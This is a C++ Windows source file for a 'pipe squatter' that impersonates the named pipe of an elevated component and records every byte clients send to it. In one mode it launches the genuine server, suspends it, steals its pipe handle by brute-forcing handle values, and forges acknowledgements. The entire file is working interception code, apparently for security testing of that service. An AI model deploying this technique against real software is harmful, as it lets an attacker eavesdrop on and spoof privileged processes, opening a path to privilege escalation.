// pipe_squatter RECORD [behind]: takes the ElevatedTasks pipe name first and appends every byte
// a client sends to RECORD. "behind": instead starts the genuine qlfvxET.exe beside it with its
// own id, suspends it once its pipe exists and serves a copy of its pipe end (whose server id
// still names that child), forging each acknowledgement. RECORD is created once it serves.

#include <windows.h>
#include <winternl.h>

#include <string>

#include "framework/handles.h"

constexpr wchar_t kPipe[] = L"\\\\.\\pipe\\VxToElevatedExePipe";

static HANDLE StealFromGenuine(DWORD ownId) {
  wchar_t self[MAX_PATH] = {};
  std::wstring line(self, ::GetModuleFileNameW(nullptr, self, MAX_PATH));
  line = L"\"" + line.substr(0, line.rfind(L'\\')) + L"\\qlfvxET.exe\" " + std::to_wstring(ownId);
  STARTUPINFOW startup = {};
  startup.cb = sizeof(startup);
  PROCESS_INFORMATION info = {};
  if (!::CreateProcessW(nullptr, line.data(), nullptr, nullptr, FALSE, CREATE_NO_WINDOW, nullptr,
                        nullptr, &startup, &info))
    return INVALID_HANDLE_VALUE;
  fw::unique_handle genuine(info.hProcess), firstThread(info.hThread);
  for (int tries = 0; !::WaitNamedPipeW(kPipe, 1) && ::GetLastError() != ERROR_SEM_TIMEOUT;
       ::Sleep(20))
    if (++tries == 500) return INVALID_HANDLE_VALUE;
  using Suspend = NTSTATUS(NTAPI*)(HANDLE);
  reinterpret_cast<Suspend>(reinterpret_cast<void*>(
      ::GetProcAddress(::GetModuleHandleW(L"ntdll.dll"), "NtSuspendProcess")))(genuine.get());
  for (ULONG_PTR value = 4; value < 0x10000; value += 4) {
    HANDLE copy = nullptr;
    DWORD flags = 0;
    if (::DuplicateHandle(genuine.get(), reinterpret_cast<HANDLE>(value), ::GetCurrentProcess(),
                          &copy, 0, FALSE, DUPLICATE_SAME_ACCESS) &&
        ::GetNamedPipeInfo(copy, &flags, nullptr, nullptr, nullptr) && (flags & PIPE_SERVER_END))
      return copy;
    if (copy) ::CloseHandle(copy);
  }
  ::TerminateProcess(genuine.get(), 1);  // suspended, it would not see its launcher end
  return INVALID_HANDLE_VALUE;
}

int wmain(int argc, wchar_t* argv[]) {
  if (argc < 2) return 2;
  const bool behind = argc > 2 && std::wstring(argv[2]) == L"behind";
  fw::unique_hfile pipe(
      behind ? StealFromGenuine(::GetCurrentProcessId())
             : ::CreateNamedPipeW(kPipe, PIPE_ACCESS_DUPLEX,
                                  PIPE_TYPE_MESSAGE | PIPE_READMODE_MESSAGE | PIPE_WAIT,
                                  PIPE_UNLIMITED_INSTANCES, 4096, 4096, 0, nullptr));
  fw::unique_hfile record(pipe ? ::CreateFileW(argv[1], FILE_APPEND_DATA,
                                               FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr,
                                               CREATE_ALWAYS, 0, nullptr)
                               : INVALID_HANDLE_VALUE);
  if (!record) return 1;
  for (;;) {
    if (::ConnectNamedPipe(pipe.get(), nullptr) || ::GetLastError() == ERROR_PIPE_CONNECTED) {
      char bytes[4096];
      DWORD count = 0;
      while (::ReadFile(pipe.get(), bytes, sizeof(bytes), &count, nullptr) ||
             ::GetLastError() == ERROR_MORE_DATA) {
        ::WriteFile(record.get(), bytes, count, &count, nullptr);
        const char acknowledgement[524] = {2};
        if (behind) ::WriteFile(pipe.get(), acknowledgement, 524, &count, nullptr);
      }
    }
    ::DisconnectNamedPipe(pipe.get());
  }
}
